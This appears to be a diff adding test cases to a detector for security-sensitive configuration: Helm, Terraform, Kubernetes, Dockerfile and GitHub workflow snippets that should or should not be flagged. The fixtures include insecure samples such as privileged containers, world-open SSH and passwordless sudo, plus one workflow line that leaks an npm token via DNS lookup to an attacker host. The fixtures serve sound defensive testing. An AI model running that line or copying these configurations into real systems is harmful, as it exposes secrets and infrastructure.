@@ -129,6 +129,17 @@ const SENSITIVE_FILES: Case[] = [
   { name: 'Dockerfile: chmod 4755 / a+w / o+rwx', path: `${P}/docker/app.Dockerfile`, rule: 'perm.mode', content: 'FROM alpine\nRUN chmod -R o+rwx /app && \\\n    chmod 4755 /usr/bin/helper\n' },
   { name: 'Dockerfile: passwordless sudo', path: `${P}/Dockerfile.dev`, rule: 'perm.elevate', content: 'FROM ubuntu\nRUN echo "dev ALL=(ALL) NOPASSWD: ALL" >> /etc/sudoers\nUSER dev\n' },
   { name: 'Dockerfile: ENV with a literal token', path: `${P}/Dockerfile`, rule: 'content.secret', content: 'FROM node:20\nENV NPM_TOKEN 7f3a9c2e1b4d8f6a0c5e9b2d\nUSER node\n' },
+  // Templates, patches and other declarations of the same meaning.
+  { name: 'Helm template: privileged with {{ }} actions around it', path: `${P}/charts/app/templates/deployment.yaml`, rule: 'content.privileged', line: 15, content: 'apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: {{ include "app.fullname" . }}\nspec:\n  template:\n    spec:\n      {{- if .Values.hostNetwork }}\n      hostNetwork: true\n      {{- end }}\n      containers:\n        - name: {{ .Chart.Name }}\n          image: "{{ .Values.image.repository }}:{{ .Values.image.tag }}"\n          securityContext:\n            privileged: true\n' },
+  { name: 'kustomize JSON patch adding privileged', path: `${P}/overlays/prod/patch.yaml`, rule: 'content.privileged', content: '- op: add\n  path: /spec/template/spec/containers/0/securityContext/privileged\n  value: true\n' },
+  { name: 'tfvars allow-list open to the world', path: `${P}/infra/prod.auto.tfvars.json`, rule: 'content.network-open', content: '{"ssh_allowed_cidrs": ["0.0.0.0/0"]}' },
+  { name: 'variable default admin_cidr 0.0.0.0/0', path: `${P}/infra/variables.tf`, rule: 'content.network-open', content: 'variable "admin_cidr" {\n  type    = string\n  default = "0.0.0.0/0"\n}\n' },
+  { name: 'ingress annotation allow-list with 0.0.0.0/0', path: `${P}/k8s/ing.yaml`, rule: 'content.network-open', content: 'kind: Ingress\nmetadata:\n  name: admin\n  annotations:\n    nginx.ingress.kubernetes.io/whitelist-source-range: "10.0.0.0/8,0.0.0.0/0"\n' },
+  { name: 'Pulumi YAML security group', path: `${P}/Pulumi.yaml`, rule: 'content.network-open', content: 'name: app\nruntime: yaml\nresources:\n  sg:\n    type: aws:ec2:SecurityGroup\n    properties:\n      ingress:\n        - protocol: tcp\n          fromPort: 22\n          toPort: 22\n          cidrBlocks: ["0.0.0.0/0"]\n' },
+  { name: 'OpenShift SCC allowing privileged containers', path: `${P}/openshift/scc.yaml`, rule: 'content.privileged', content: 'kind: SecurityContextConstraints\nmetadata:\n  name: x\nallowPrivilegedContainer: true\n' },
+  { name: 'serverless.yml function URL', path: `${P}/serverless.yml`, rule: 'content.public-access', content: 'service: x\nfunctions:\n  api:\n    handler: handler.main\n    url: true\n' },
+  { name: 'ECS task definition privileged (jsonencode)', path: `${P}/infra/ecs.tf`, rule: 'content.privileged', content: 'resource "aws_ecs_task_definition" "t" {\n  family = "t"\n  container_definitions = jsonencode([{\n    name = "app"\n    image = "app"\n    privileged = true\n  }])\n}\n' },
+  { name: 'workflow: secret to a DNS lookup', path: `${P}/.github/workflows/a.yml`, rule: 'content.workflow-secrets', content: 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: nslookup ${{ secrets.NPM_TOKEN }}.attacker.example\n' },
 ];
 
 // ---- Ordinary: must not come back sensitive ----------------------------------------------------------------------
@@ -149,6 +160,12 @@ const ORDINARY_FILES: Case[] = [
   { name: 'Role-free manifests: ConfigMap and Ingress', path: `${P}/k8s/cm.yaml`, content: 'apiVersion: v1\nkind: ConfigMap\nmetadata: {name: c}\ndata:\n  LOG_LEVEL: info\n---\napiVersion: networking.k8s.io/v1\nkind: Ingress\nmetadata: {name: web}\nspec:\n  rules:\n  - host: example.com\n    http:\n      paths: [{path: /, pathType: Prefix, backend: {service: {name: web, port: {number: 80}}}}]\n' },
   { name: 'Secret manifest with placeholders only', path: `${P}/k8s/secret.yaml`, content: 'kind: Secret\nmetadata: {name: s}\nstringData:\n  password: ${DB_PASSWORD}\n  token: "<set me>"\n' },
   { name: 'GCP viewer binding', path: `${P}/infra/gcp.tf`, content: 'resource "google_storage_bucket_iam_member" "m" {\n  bucket = "b"\n  role   = "roles/storage.objectViewer"\n  member = "serviceAccount:app@p.iam.gserviceaccount.com"\n}\n' },
+  { name: 'Helm template with resources from values', path: `${P}/charts/app/templates/deployment.yaml`, content: 'apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: {{ include "app.fullname" . }}\nspec:\n  replicas: {{ .Values.replicaCount }}\n  template:\n    spec:\n      containers:\n        - name: {{ .Chart.Name }}\n          resources:\n            {{- toYaml .Values.resources | nindent 12 }}\n' },
+  { name: 'NetworkPolicy egress to anywhere', path: `${P}/k8s/np.yaml`, content: 'kind: NetworkPolicy\nmetadata: {name: e}\nspec:\n  podSelector: {}\n  egress:\n  - to:\n    - ipBlock:\n        cidr: 0.0.0.0/0\n' },
+  { name: 'workflow: webhook URL kept as a secret, masked values, decoded kubeconfig', path: `${P}/.github/workflows/n.yml`, content: 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -X POST -H "Content-type: application/json" --data \'{"text":"done"}\' ${{ secrets.SLACK_WEBHOOK_URL }}\n      - run: echo "::add-mask::${{ secrets.X }}"\n      - run: echo "${{ secrets.KUBECONFIG_B64 }}" | base64 -d > kubeconfig\n' },
+  { name: 'variables: a VPC range and open egress', path: `${P}/infra/variables.tf`, content: 'variable "vpc_cidr" {\n  default = "10.0.0.0/16"\n}\nvariable "egress_cidr" {\n  default = "0.0.0.0/0"\n}\n' },
+  { name: 'Azure SQL: allow Azure services (0.0.0.0–0.0.0.0)', path: `${P}/infra/sql.tf`, content: 'resource "azurerm_mssql_firewall_rule" "azure" {\n  name = "AllowAzure"\n  start_ip_address = "0.0.0.0"\n  end_ip_address = "0.0.0.0"\n}\n' },
+  { name: 'NACL admitting return traffic on ephemeral ports', path: `${P}/infra/nacl.tf`, content: 'resource "aws_network_acl_rule" "in" {\n  rule_number = 100\n  egress = false\n  protocol = "tcp"\n  rule_action = "allow"\n  cidr_block = "0.0.0.0/0"\n  from_port = 1024\n  to_port = 65535\n}\n' },
   { name: 'API Gateway OPTIONS with no auth (CORS preflight)', path: `${P}/infra/api.tf`, content: 'resource "aws_api_gateway_method" "cors" {\n  http_method = "OPTIONS"\n  authorization = "NONE"\n}\n' },
 ];
 
@@ -204,6 +221,8 @@ const EDITS: EditCase[] = [
   { name: 'workflow trigger switched to pull_request_target', path: `${P}/.github/workflows/ci.yml`, old: 'on:\n  pull_request:', new: 'on:\n  pull_request_target:', sensitive: true },
   { name: 'Dockerfile USER root', path: `${P}/Dockerfile`, old: 'USER node', new: 'USER root', sensitive: true },
   { name: 'compose: privileged + docker.sock', path: `${P}/docker-compose.yml`, old: '    image: app', new: '    image: app\n    privileged: true\n    volumes:\n      - /var/run/docker.sock:/var/run/docker.sock', sensitive: true },
+  { name: 'public-access block resource deleted', path: `${P}/infra/s3.tf`, old: 'resource "aws_s3_bucket_public_access_block" "b" {\n  bucket = aws_s3_bucket.b.id\n  block_public_acls = true\n  restrict_public_buckets = true\n}\n', new: '', sensitive: true },
+  { name: 'securityContext hardening deleted', path: `${P}/k8s/d.yaml`, old: '        securityContext:\n          runAsNonRoot: true\n', new: '', sensitive: true },
   { name: 'unparseable HCL fragment still caught by the line fallback', path: `${P}/infra/main.tf`, old: 'ingress {', new: 'ingress {\n    cidr_blocks = ["0.0.0.0/0"]', sensitive: true },
   // Ordinary edits.
   { name: 'replicas bumped', path: `${P}/k8s/d.yaml`, old: 'replicas: 2', new: 'replicas: 4', sensitive: false },
